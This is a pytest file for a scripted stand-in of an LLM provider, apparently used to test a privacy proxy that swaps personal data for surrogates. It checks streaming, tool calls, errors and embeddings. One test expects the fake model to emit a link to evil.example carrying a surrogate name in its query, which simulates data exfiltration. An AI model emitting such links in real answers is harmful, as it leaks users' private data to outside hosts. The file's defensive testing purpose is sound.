"""What the provider stand-in says, and that its stream says the same."""

import json

import pytest

from extproc.local import scripts


def asked(text: str, **more: object) -> dict[str, object]:
    return {"model": "demo-chat", "messages": [{"role": "user", "content": text}], **more}


def streamed(request: dict[str, object]) -> tuple[str, str]:
    """Text and tool arguments of the first choice, put together again."""
    deltas = [
        choice["delta"]
        for chunk in scripts.chunks(request, scripts.said(request))
        for choice in chunk["choices"]
        if choice["index"] == 0
    ]
    calls = [call for delta in deltas for call in delta.get("tool_calls", [])]
    return (
        "".join(delta.get("content") or "" for delta in deltas),
        "".join(call["function"].get("arguments", "") for call in calls),
    )


@pytest.mark.parametrize("script", ["repeat", "verbatim", "link", "tool", "long"])
def test_the_stream_says_what_the_whole_answer_says(script: str) -> None:
    request = asked(f"script:{script} about [NAME_1] and [MRN_2]")
    message = scripts.completion(request, scripts.said(request))["choices"][0]["message"]
    arguments = message.get("tool_calls", [{"function": {"arguments": ""}}])[0]["function"]["arguments"]
    assert streamed(request) == (message["content"] or "", arguments)


def test_surrogates_are_repeated_once_each_in_their_order() -> None:
    assert scripts.said(asked("[MRN_1], [NAME_10], [NAME_1], [MRN_1] and [x]")).text.startswith(
        "Noted: [MRN_1], [NAME_10], [NAME_1]."
    )


def test_the_link_carries_the_name_out() -> None:
    assert "https://evil.example/?q=[NAME_7]" in scripts.said(asked("script:link [NAME_7]")).text


def test_tool_arguments_are_json() -> None:
    said = scripts.said(asked("script:tool [NAME_1]"))
    assert said.tool is not None
    assert json.loads(said.tool[1])["recipients"] == ["[NAME_1]"]


@pytest.mark.parametrize(("script", "status"), [("error-429", 429), ("error-500", 500), ("unheard-of", 400)])
def test_errors_have_their_status(script: str, status: int) -> None:
    assert scripts.said(asked(f"script:{script}")).status == status


def test_an_error_echoes_the_prompt() -> None:
    assert "[NAME_1]" in scripts.said(asked("script:error-500 [NAME_1]")).text


def test_content_parts_are_read_as_text() -> None:
    parts = [{"type": "text", "text": "for [NAME_1]"}, {"type": "image_url", "image_url": {"url": "data:,"}}]
    assert "[NAME_1]" in scripts.said({"messages": [{"role": "user", "content": parts}]}).text


@pytest.mark.parametrize(("n", "choices"), [(None, 1), (1, 1), (2, 2), (0, 1), (9, 1), ("2", 1)])
def test_there_are_as_many_choices_as_asked_for(n: object, choices: int) -> None:
    request = asked("hello", n=n)
    assert len(scripts.completion(request, scripts.said(request))["choices"]) == choices


def test_usage_comes_last_where_the_stream_should_have_it() -> None:
    request = asked("hello", stream_options={"include_usage": True})
    *_, last = scripts.chunks(request, scripts.said(request))
    assert (last["choices"], set(last["usage"])) == ([], {"prompt_tokens", "completion_tokens", "total_tokens"})


@pytest.mark.parametrize(("given", "vectors"), [("a", 1), (["a", "b"], 2), ([1, 2, 3], 1), ([[1], [2]], 2), (None, 1)])
def test_each_input_has_a_vector(given: object, vectors: int) -> None:
    assert len(scripts.embeddings({"model": "demo-embed", "input": given})["data"]) == vectors
